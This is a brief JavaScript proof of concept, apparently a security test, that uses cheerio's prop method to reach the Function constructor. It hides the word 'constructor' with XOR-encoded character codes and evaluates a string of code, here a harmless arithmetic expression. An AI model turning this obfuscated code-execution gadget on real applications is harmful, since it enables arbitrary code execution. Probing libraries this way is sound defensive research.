// reaches f.constructor by cheerio's prop, name from codes
const cheerio = require('cheerio');
const $ = cheerio.load('<a>x</a>');
const n = String.fromCharCode(...[98, 110, 111, 114, 117, 115, 116, 98, 117, 110, 115].map((c) => c ^ 1));
const f = () => 0;
f.type = 'tag';
try { console.log($(f).prop(n)('return 6*7')()); } catch (e) { console.log(e.message); }
